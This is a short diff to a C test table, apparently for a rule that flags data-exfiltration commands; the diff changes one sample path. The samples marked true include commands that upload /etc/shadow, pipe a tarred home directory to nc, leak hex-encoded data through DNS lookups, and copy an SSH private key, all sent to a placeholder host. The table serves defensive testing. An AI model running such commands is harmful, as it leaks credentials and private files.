@@ -119,7 +119,7 @@ static const struct rule_sample samples[] = {
     {true, "$ curl -F f=@/etc/shadow http://198.51.100.7/u"},
     {true, "$ sh -c 'tar czf - /home | nc 198.51.100.7 9000'"},
     {true, "$ dig 4a6f686e20446f652070617373776f7264.x.example.org"},
-    {true, "$ scp /root/.ssh/id_rsa u@198.51.100.7:/tmp/"},
+    {true, "$ scp /home/pi/.ssh/id_rsa u@198.51.100.7:/tmp/"},
     {false, "$ curl -O https://example.org/file.tgz"},
     {false, "$ scp /etc/config/network root@192.168.1.1:/tmp/"},
     {false, "$ dig +short www.example.org"},
